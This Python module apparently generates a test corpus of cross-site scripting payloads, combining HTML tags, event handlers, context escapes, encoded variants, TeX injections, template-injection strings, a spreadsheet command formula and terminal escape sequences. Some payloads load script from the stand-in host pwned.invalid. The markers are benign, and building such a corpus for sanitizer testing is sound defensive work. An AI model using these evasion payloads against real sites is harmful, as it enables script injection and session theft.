"""A corpus of cross-site scripting payloads, combined from tags, events, encodings and contexts. Knows no page.

Each one, where it works, sets `window.pwned`, opens a dialog, asks `pwned.invalid` for something, or leaves an
element with the attribute `data-pwned`.
"""

from html import escape
from itertools import chain, islice, product
from urllib.parse import quote

RUN = "window.pwned=1"
FAR = "http://pwned.invalid/x"
TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "input",
    "details",
    "iframe",
    "object",
    "math",
    "marquee",
    "a",
    "style",
    "custom-x",
)
EVENTS = {
    "onerror": "src=x",
    "onload": "src=data:,",
    "onfocus": "autofocus tabindex=0",
    "ontoggle": "open",
    "onmouseover": "style=position:fixed;inset:0",
    "onanimationstart": "style=animation:x",
    "onpointerrawupdate": "",
    "onbeforetoggle": "popover",
    "hx-on::load": "",
    "hx-on:click": "",
}
OPENINGS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</svg>",
    "*/",
    "`>",
)
URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    "javascript:%77indow.pwned=1",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"vbscript:{RUN}",
    "//pwned.invalid/x",
    FAR,
    f"blob:{FAR}",
    f"feed:javascript:{RUN}",
    f"javascript://%0a{RUN}",
)
URL_PLACES = (
    "<a data-pwned href='{}'>x</a>",
    "<iframe data-pwned src='{}'></iframe>",
    "<form data-pwned action='{}'><button>x</button></form>",
    "<object data-pwned data='{}'></object>",
    "<svg data-pwned><a xlink:href='{}'><text y=20>x</text></a></svg>",
    "<math data-pwned href='{}'><mi>x</mi></math>",
    "<base data-pwned href='{}'>",
    "<link data-pwned rel=stylesheet href='{}'>",
    "<div data-pwned hx-get='{}' hx-trigger=load>",
    "<embed data-pwned src='{}'>",
    "<meta data-pwned http-equiv=refresh content='0;url={}'>",
)
WHOLE = (
    f"<script data-pwned>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={FAR}></script>",
    f"<iframe data-pwned srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<template data-pwned><script>{RUN}</script></template>",
    f"<svg data-pwned><script>{RUN}</script></svg>",
    f"<svg data-pwned><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg data-pwned><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math data-pwned><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<style data-pwned>@import '{FAR}';*{{background:url({FAR})}}</style>",
    f"<!--><img data-pwned src=x onerror={RUN}>-->",
    f"<![CDATA[<img data-pwned src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='{FAR}'?>",
    f"<img\x00 data-pwned src=x onerror={RUN}>",
    f"<\x00img data-pwned src=x onerror={RUN}>",
    f"<img/data-pwned/src=x/onerror={RUN}>",
    f"\ufeff<img data-pwned src=x onerror={RUN}>",
    f"＜img data-pwned src=x onerror={RUN}＞",
    f"<img data-pwned src=x onerror=\u2028{RUN}>",
    f"&lt;img data-pwned src=x onerror={RUN}&gt;",
    f"&#60;img data-pwned src=x onerror={RUN}&#62;",
    f"\\u003cimg data-pwned src=x onerror={RUN}\\u003e",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% load x %}}{{{{ {RUN} }}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%={RUN}%>",
    f"';{RUN}//",
    f'";{RUN}//',
    f"`;{RUN}//",
    f"\\';{RUN}//",
    f"</script><script data-pwned>{RUN}</script>",
    f'","x":{RUN}}}</script>',
    f'=HYPERLINK("{FAR}","x")',
    f"=cmd|'/C {RUN}'!A0",
    f"@import '{FAR}'",
    f"\x1b]8;;{FAR}\x07x\x1b]8;;\x07",
    f"\x1b[31m{RUN}\x1b[0m",
    f"[x](javascript:{RUN})",
    f"![x]({FAR})",
    f"[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<{FAR}>",
    "<b data-pwned>bold</b>",
    "<span data-pwned style='position:fixed;inset:0;z-index:9'>x</span>",
    "<slot data-pwned name=x>",
    "<x-y data-pwned is=z>",
    f"<button data-pwned popovertarget=x autofocus onfocus={RUN}>",
    f"<dialog data-pwned open>{RUN}</dialog>",
    f"<portal data-pwned src={FAR}>",
    f'" hx-get="{FAR}" hx-trigger="load" data-pwned x="',
    f"' onfocus={RUN} autofocus data-pwned x='",
    f'" onmouseover="{RUN}" data-pwned x="',
    f'" style="background:url({FAR})" data-pwned x="',
    f" data-pwned onclick={RUN} ",
    f"`onmouseover={RUN} data-pwned`",
    f"\u202e<img data-pwned src=x onerror={RUN}>\u202c",
    f"<img data-pwned src=x onerror={RUN}//\ud7ff>",
)
TEX = (
    r"$\href{javascript:window.pwned=1}{x}$",
    r"$\url{javascript:window.pwned=1}$",
    r"\(\text{<img data-pwned src=x onerror=window.pwned=1>}\)",
    r"$\class{x\" data-pwned onmouseover=\"window.pwned=1}{x}$",
    r"\[\style{background:url(http://pwned.invalid/x)}{x}\]",
    r"$$\htmlData{pwned=1}{x}$$",
    r"$\includegraphics{http://pwned.invalid/x}$",
    r"$<script>window.pwned=1</script>$",
    r"$\unicode{x3c}img data-pwned src=x onerror=window.pwned=1\unicode{x3e}$",
    r"$\mathrm{</math><img data-pwned src=x onerror=window.pwned=1>}$",
    r"$\text{</mtext></math><script data-pwned>window.pwned=1</script>}$",
    r"$a\" data-pwned onmouseover=\"window.pwned=1$",
    r"$\def\x{\x\x}\x$",
    r"$\newcommand{\x}{<b data-pwned>}\x$",
    r"$&#60;b data-pwned&#62;$",
    r"$\color{red\" data-pwned=\"}{x}$",
    r"$\operatorname{<b data-pwned>x</b>}$",
    r"$\begin{array}{c\" data-pwned=\"}x\end{array}$",
    r"$\hspace{1em\" data-pwned=\"}$",
    r"$\left<img data-pwned src=x onerror=window.pwned=1\right>$",
)
ENCODINGS = (
    lambda text: text,
    lambda text: escape(text),
    lambda text: quote(text),
    lambda text: "".join(f"&#{ord(c)};" for c in text),
    lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.upper().replace("WINDOW.PWNED", "window.pwned"),
)


def payloads() -> list[str]:
    """Every payload once: whole ones, tags × events behind ways out of a context, URLs in places, TeX, encodings."""
    marked = [f"<{tag} data-pwned {given} {event}={RUN}>" for tag, (event, given) in product(TAGS, EVENTS.items())]
    out = [f"{opening}{text}" for opening, text in zip(OPENINGS * len(marked), marked, strict=False)]
    placed = [place.format(url) for place, url in product(URL_PLACES, URLS)]
    encoded = [encode(text) for encode, text in product(ENCODINGS[1:], (*WHOLE[:8],))]
    return list(dict.fromkeys(chain(WHOLE, TEX, URLS, out, placed, encoded)))


def joined(most_chars: int) -> list[str]:
    """The payloads put together into texts of at most so many characters each (a longer one stands alone, cut)."""
    found: list[str] = []
    for payload in payloads():
        if found and len(found[-1]) + len(payload) + 1 <= most_chars:
            found[-1] += f" {payload}"
        else:
            found.append(payload[:most_chars])
    return found


def cycled(texts: list[str], start: int, n: int) -> list[str]:
    """`n` texts from number `start` on, beginning again at the end."""
    return list(islice((texts * 2)[start % len(texts) :], n))
